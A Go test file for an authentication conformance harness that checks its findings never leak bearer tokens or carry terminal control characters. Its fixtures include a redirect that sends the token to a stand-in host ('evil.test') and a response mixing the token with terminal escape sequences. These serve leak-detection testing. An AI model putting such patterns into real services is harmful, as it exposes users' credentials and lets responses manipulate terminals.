package run

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"sync"
	"testing"
	"unicode"

	"aegis.test/conformance/harness"
	"aegis.test/conformance/harness/outcome"
)

// reflections are ways a target may give a credential back.
var reflections = map[string]func(w http.ResponseWriter, token string){
	"whole":        func(w http.ResponseWriter, token string) { answer(w, "refused: Bearer "+token) },
	"as JSON":      func(w http.ResponseWriter, token string) { answer(w, fmt.Sprintf(`{"token":%q}`, token)) },
	"its start":    func(w http.ResponseWriter, token string) { answer(w, "bad token "+token[:20]+"…") },
	"its end":      func(w http.ResponseWriter, token string) { answer(w, "…"+token[len(token)-20:]) },
	"its middle":   func(w http.ResponseWriter, token string) { answer(w, token[200:240]) },
	"its segments": func(w http.ResponseWriter, token string) { answer(w, strings.Join(strings.Split(token, "."), "\n")) },
	"line by line": func(w http.ResponseWriter, token string) { answer(w, token[:30]+"\n"+token[30:60]+"\n"+token[60:90]) },
	"cut off":      func(w http.ResponseWriter, token string) { answer(w, strings.Repeat(token+" ", 64<<10/len(token)+1)) },
	"in a challenge": func(w http.ResponseWriter, token string) {
		w.Header().Set("WWW-Authenticate", `Bearer error_description="`+token[:50]+`"`)
		answer(w, "")
	},
	"in a redirect": func(w http.ResponseWriter, token string) {
		w.Header().Set("Location", "https://evil.test/?t="+token)
		w.WriteHeader(http.StatusTemporaryRedirect)
	},
	"among escapes": func(w http.ResponseWriter, token string) { answer(w, "\x1b[2J\x1b]0;"+token+"\x07\u202e\xff\x00") },
}

func answer(w http.ResponseWriter, body string) {
	w.WriteHeader(http.StatusUnauthorized)
	_, _ = w.Write([]byte(body))
}

// placed are the places a stimulus may put a credential.
var placed = map[string]func(r *harness.Request, token string){
	"as a bearer":      func(r *harness.Request, token string) { r.Set("Authorization", "Bearer "+token) },
	"without a scheme": func(r *harness.Request, token string) { r.Set("Authorization", token) },
	"in lower case": func(r *harness.Request, token string) {
		r.Remove("Authorization")
		r.Add("authorization", "bearer  "+token)
	},
	"twice": func(r *harness.Request, token string) { r.Add("Authorization", "Bearer "+token) },
	"in another field": func(r *harness.Request, token string) {
		r.Remove("Authorization")
		r.Add("Cookie", "a=b; token="+token)
	},
	"in the query": func(r *harness.Request, token string) { r.Remove("Authorization"); r.Path += "?access_token=" + token },
	"in the body": func(r *harness.Request, token string) {
		r.Remove("Authorization")
		r.Body = []byte("access_token=" + token)
	},
}

// TestEvidenceHoldsNoCredential: neither where the expectation passes nor where
// it fails, wherever the credential stood and however it comes back.
func TestEvidenceHoldsNoCredential(t *testing.T) {
	for back, reflect := range reflections {
		for where, put := range placed {
			for _, o := range []harness.Outcome{outcome.Unauthenticated().Challenged(), outcome.Forbidden(),
				outcome.Denied().SameOrigin(func(harness.Request, string) bool { return false })} {
				t.Run(back+", "+where, func(t *testing.T) {
					token := secretToken()
					s := serve(t, func(w http.ResponseWriter, r *http.Request, _ int, control bool) {
						if !control {
							reflect(w, token)
							return
						}
						_, _ = w.Write([]byte(r.Header.Get("Authorization"))) // a control's is given back too
					})
					var mu sync.Mutex
					var met []string
					f := judge(t, s.Target, Options{Met: func(_, value string) { mu.Lock(); defer mu.Unlock(); met = append(met, value) }}, presenting(o,
						token, put))
					if f.Requests != 1 || len(f.Evidence) != 3 {
						t.Fatalf("%d requests, %d pieces of evidence: %s (%s)", f.Requests, len(f.Evidence), f.Verdict, f.Reason)
					}
					for _, secret := range []string{token, s.Tokens.Valid.Reveal()} {
						keeps(t, f, secret)
						mu.Lock()
						if !strings.Contains(strings.Join(met, "\n"), secret) {
							t.Error("a credential was not told to Met")
						}
						mu.Unlock()
					}
				})
			}
		}
	}
}

// presenting sends one request with a token somewhere.
func presenting(o harness.Outcome, token string, put func(*harness.Request, string)) harness.Expectation {
	return harness.Expectation{ID: "X-1", Outcome: o, Stimulus: harness.Stimulus{Act: func(ctx context.Context,
		h harness.Client) (harness.Trace, error) {
		r := requestTo(h.Target(), "none")
		put(&r, token)
		return harness.Trace{Exchanges: []harness.Exchange{h.Send(ctx, r)}}, nil
	}}}
}

// keeps wants a finding to have nothing in common with a secret, and nothing
// that a terminal would obey.
func keeps(t *testing.T, f harness.Finding, secret string) {
	t.Helper()
	data, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+shared <= len(secret); i++ {
		if strings.Contains(string(data), secret[i:i+shared]) {
			t.Fatalf("the finding tells of the credential: %d bytes from %d on", shared, i)
		}
	}
	for _, text := range texts(reflect.ValueOf(f)) {
		if strings.ContainsFunc(text, func(c rune) bool { return unicode.IsControl(c) || unicode.Is(unicode.Cf, c) }) {
			t.Errorf("control characters in %q", text)
		}
	}
}

// texts are all strings in a value.
func texts(v reflect.Value) []string {
	var all []string
	switch v.Kind() {
	case reflect.String:
		return []string{v.String()}
	case reflect.Slice:
		for i := range v.Len() {
			all = append(all, texts(v.Index(i))...)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			all = append(all, texts(v.Field(i))...)
		}
	}
	return all
}

// TestReplicasLogHoldsNoCredential: a replica that logs what it was sent.
func TestReplicasLogHoldsNoCredential(t *testing.T) {
	token := secretToken()
	s := serve(t, nil)
	x := harness.Expectation{ID: "X-1", Outcome: fixed{}, Stimulus: harness.Stimulus{OwnControl: true, Act: func(_ context.Context,
		h harness.Client) (harness.Trace, error) {
		sent := harness.Exchange{Request: requestTo(h.Target(), "Bearer "+token)}
		return harness.Trace{Startups: []harness.Startup{
			{Log: "DEBUG authorization=" + token, After: []harness.Exchange{sent}}, {Log: token[50:90], Before: []harness.Exchange{sent}},
		}}, nil
	}}}
	f := judge(t, s.Target, Options{}, x)
	if len(f.Evidence) != 2 || !strings.Contains(f.Evidence[0].Body, "DEBUG") {
		t.Fatalf("evidence %+v, want two starts with their logs", f.Evidence)
	}
	keeps(t, f, token)
}

// TestEvidenceKeepsTheRest: only the credential is blotted out.
func TestEvidenceKeepsTheRest(t *testing.T) {
	r := harness.Request{}
	r.Set("Authorization", "Bearer "+secretToken())
	for _, text := range []string{"", "unauthorized", `{"error":"invalid_token","error_description":"Bearer expected"}`,
		`Bearer error="invalid_token"`, strings.Repeat("x", maxBody)} {
		if got := excerpt(text, r); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
	if got := excerpt(strings.Repeat("é", maxBody), r); len(got) > maxBody+8 || strings.ContainsRune(got, 'Ã') {
		t.Errorf("%d bytes %q, want %d", len(got), got, maxBody)
	}
}

// TestEvidenceIsSmall: a finding of many failures shows some, and says how many
// there were.
func TestEvidenceIsSmall(t *testing.T) {
	s := serve(t, func(w http.ResponseWriter, _ *http.Request, _ int, control bool) {
		if !control {
			w.WriteHeader(http.StatusNotFound)
			_, _ = w.Write(make([]byte, 100<<10))
		}
	})
	x := harness.Expectation{ID: "X-1", Outcome: outcome.Unauthenticated(), Stimulus: harness.Stimulus{Act: func(ctx context.Context,
		h harness.Client) (harness.Trace, error) {
		var all []harness.Request
		for range 30 {
			all = append(all, requestTo(h.Target(), "Bearer bad"))
		}
		return harness.Trace{Exchanges: h.SendAll(ctx, all)}, nil
	}}}
	f := judge(t, s.Target, Options{}, x)
	if len(f.Evidence) != maxFailed+2 || f.Exchange != 30 || !strings.Contains(f.Got, "and 29 more of 30 exchanges") {
		t.Errorf("%d pieces of evidence of %d exchanges: %q", len(f.Evidence), f.Exchange, f.Got)
	}
	if data, err := json.Marshal(f); err != nil || len(data) > 32<<10 {
		t.Errorf("%d bytes of finding, %v", len(data), err)
	}
}

// TestEvidenceShowsOnlyListedFields: a header field that is not listed is not
// shown, whatever is in it.
func TestEvidenceShowsOnlyListedFields(t *testing.T) {
	header := http.Header{"Www-Authenticate": {`Bearer realm="aegis"`}, "Set-Cookie": {"session=abcdef"}, "X-Amzn-Oidc-Data": {"abcdef"},
		"Authorization": {"Basic abcdef"}}
	e := exhibit(harness.Exchange{Observation: harness.Observation{Status: 401, Header: header}})
	if text := fmt.Sprint(e); strings.Contains(text, "abcdef") || !strings.Contains(text, `realm="aegis"`) {
		t.Errorf("%s: want the challenge and no other field", text)
	}
}

// TestFailedInIsOfEveryProblem: a waiver of one mode is held against all exchanges,
// and not only against those that are kept as evidence.
func TestFailedInIsOfEveryProblem(t *testing.T) {
	var trace harness.Trace
	var problems []harness.Problem
	for i := range maxFailed + 4 {
		mode := harness.OIDC
		if i == maxFailed+3 {
			mode = harness.MTLS
		}
		trace.Exchanges = append(trace.Exchanges, harness.Exchange{Request: harness.Request{Mode: mode}})
		problems = append(problems, harness.Problem{Verdict: harness.Fail, Exchange: i})
	}
	if got := failedIn(trace, problems); len(got) != 2 {
		t.Errorf("%v, want both modes", got)
	}
	if got := failedIn(trace, problems[:maxFailed]); len(got) != 1 || got[0] != harness.OIDC {
		t.Errorf("%v, want oidc", got)
	}
	if got := failedIn(trace, append(problems, harness.Problem{Exchange: -1})); got != nil {
		t.Errorf("%v of a problem that no exchange shows, want none", got)
	}
}

// TestEvidenceBeginsWithWhatGotTells: the exchange of the worst problem stands first,
// whichever was seen first.
func TestEvidenceBeginsWithWhatGotTells(t *testing.T) {
	target := serve(t, nil).Target
	trace := harness.Trace{Exchanges: []harness.Exchange{
		{Request: harness.Request{Method: "POST", Path: "/first", Credential: "one"}, Observation: harness.Observation{Status: 404}},
		{Request: harness.Request{Method: "POST", Path: "/second", Credential: "two"}, Observation: harness.Observation{Status: 200}},
	}}
	f := judge(t, target, Options{}, harness.Expectation{ID: "X-1",
		Outcome: fixed{{Verdict: harness.Fail, Bucket: harness.Contract, Exchange: 0, Got: "404", Want: "401"}, {Verdict: harness.Fail,
			Bucket: harness.Security, Exchange: 1, Got: "200", Want: "401"}},
		Stimulus: harness.Stimulus{OwnControl: true, Act: func(context.Context, harness.Client) (harness.Trace, error) { return trace, nil }}})
	if len(f.Evidence) < 2 || !strings.Contains(f.Got, "/second") || !strings.Contains(f.Evidence[0].Request, "/second") ||
		!strings.Contains(f.Evidence[1].Request, "/first") {
		t.Errorf("got %q, evidence %+v", f.Got, f.Evidence)
	}
}
